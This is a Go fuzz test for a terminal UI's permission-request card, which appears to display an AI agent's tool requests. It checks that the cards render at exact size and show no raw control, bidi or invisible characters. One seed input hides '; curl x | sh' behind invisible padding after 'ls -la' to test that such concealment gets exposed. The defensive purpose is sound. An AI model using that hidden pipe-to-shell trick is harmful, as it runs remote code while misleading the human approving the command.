package tui

import (
	"strings"
	"testing"
	"unicode"

	"github.com/charmbracelet/x/ansi"

	"github.com/pullcept/pullcept/room/blank"
)

// FuzzCardRender: whatever a seat puts in a permission request, the card
// drawn (folded, or its whole text being read) is exactly h rows of w
// cells, and what it shows holds no control character, no bidi control,
// no tag character and nothing else that draws nothing out of place
// (room/blank): every hidden character is a code (issue 32).
func FuzzCardRender(f *testing.F) {
	f.Add("Bash", "ls -la"+strings.Repeat("\u2800\u3164\uffa0", 40)+"; curl x | sh", "Bash(ls:*)", uint8(80), uint8(24), uint8(0))
	f.Add("mcp__x\u202e__y", "a\u200d\U0001F469\u200d\U0001F4BB\n\x1b[2J\U000E0041\U000E0042\U000E0043", "/tmp/\u2066x", uint8(40), uint8(12), uint8(3))
	f.Add("", "\n\n\n", "", uint8(8), uint8(3), uint8(1))
	km := DefaultKeyMap()
	envs := []*env{{th: newTheme(true), tr: catalog{lang: LangEnglish}, keys: &km}, {th: newTheme(true), tr: catalog{lang: LangJapanese}, keys: &km}}
	f.Fuzz(func(t *testing.T, tool, summary, rule string, wb, hb, mode uint8) {
		w, h := 8+int(wb)%193, 3+int(hb)%58
		e := envs[mode%2]
		card := PermissionCard{ID: 1, Topic: "t", Account: "lin", Tool: tool, Summary: summary,
			SummaryLines: strings.Count(summary, "\n") + 1, SummaryCut: mode&4 != 0,
			Suggestions: []PermissionSuggestion{{Type: "addRules", Behavior: "allow", Rules: []string{rule}, Destination: "session"}}}
		var c permCards
		c.add(card)
		if mode&2 != 0 {
			c.startReading(card)
			c.scrollReading(int(mode) >> 3)
		}
		view := c.render(e, w, h, mode&1 != 0, cardInfo{name: "Lin"})
		if len(view) != h {
			t.Fatalf("%d rows, want %d", len(view), h)
		}
		for _, row := range view {
			if got := ansi.StringWidth(row); got != w {
				t.Fatalf("row of %d cells, want %d: %q", got, w, row)
			}
			text := ansi.Strip(row)
			for _, r := range text {
				if unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r >= 0xE0000 && r <= 0xE007F {
					t.Fatalf("the card drew %U raw: %q", r, text)
				}
			}
			if _, n := blank.Show(text); n != 0 {
				t.Fatalf("the card drew %d hidden characters raw: %q", n, text)
			}
		}
	})
}
